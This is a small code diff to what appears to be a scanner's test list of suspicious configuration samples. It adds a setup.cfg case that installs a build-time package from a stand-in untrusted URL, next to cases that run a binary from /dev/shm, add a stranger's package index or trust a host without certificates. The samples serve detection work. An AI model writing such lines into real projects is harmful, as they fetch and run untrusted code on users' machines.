@@ -475,6 +475,7 @@ export const PLACES: readonly Case[] = [
   suspicious('shared.service', 'a program where anybody may put one', '[Service]\nExecStart=-/dev/shm/x\n'),
   suspicious('requirements.txt', 'packages from a stranger', `torch\n--extra-index-url ${NOBODY}\nmy-model-utils\n`),
   suspicious('direct/requirements.txt', 'a package by its address', `helper @ ${NOBODY}/helper.tar.gz\n`),
+  suspicious('setup.cfg', 'one for the build', `[options]\nsetup_requires = helper @ ${NOBODY}/helper.tar.gz\n`),
   suspicious('local/requirements.txt', 'a package of the folder', 'torch\n-e .\n'),
   suspicious('trusted/requirements.txt', 'a host without certificates', '--trusted-host 127.0.0.1\ntorch\n'),
   suspicious(
